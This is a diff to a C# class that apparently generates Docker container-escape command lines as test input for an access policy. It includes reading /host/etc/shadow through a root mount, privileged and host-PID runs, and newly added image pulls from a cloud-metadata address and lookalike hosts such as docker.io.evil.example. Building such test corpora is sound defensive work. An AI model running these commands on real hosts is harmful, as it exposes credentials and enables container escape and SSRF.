@@ -31,7 +31,7 @@ internal static class EscapeLines
             .. _capabilities.SelectMany(c => (string[])[$"--cap-add {c}", $"--cap-add cap_{c.ToLowerInvariant()}"]),
             .. _hostPaths.SelectMany(Binds), .. Writable("{deep}"), .. Devices(), .. Volumes(), .. Namespaces(), .. Security(), .. Logs(), .. Labels(), .. VolumeLabels(), .. Addresses(), .. Rest(),
         ];
-        return options.Select(o => $"create {o} {{i}}").Append("create {labelled}").Append("run -d --rm {labelled}").Append("run -d --privileged {i} sleep 60")
+        return options.Select(o => $"create {o} {{i}}").Concat(Registries()).Append("create {labelled}").Append("run -d --rm {labelled}").Append("run -d --privileged {i} sleep 60")
             .Append("run --rm -v /:/host {i} cat /host/etc/shadow").Append("create --name escape --pid=host {i}");
     }
 
@@ -112,6 +112,12 @@ internal static class EscapeLines
             $"--mount type=volume,src=esc-nfs,dst=/x,volume-opt=type=nfs,\"volume-opt=o=addr={a},rw\",volume-opt=device=:/", $"--mount type=volume,dst=/x,volume-opt=type=cifs,volume-opt=o=addr={a},volume-opt=device=//{a}/c$",
         ]),
     ];
+
+    // An image that is not there is asked for at the host that its name begins with.
+    private static IEnumerable<string> Registries() =>
+        from host in (string[])["127.0.0.1:1", "localhost", "localhost:5000", "[::1]:5000", "10.0.0.1", "169.254.169.254", "registry.internal:5000", "quay.example", "docker.io.evil.example", "index.docker.io.evil.example", "2130706433.example:80"]
+        from pull in (string[])["", "--pull always "]
+        select $"create {pull}{host}/x/y:1";
 
     private static IEnumerable<string> Rest() =>
     [
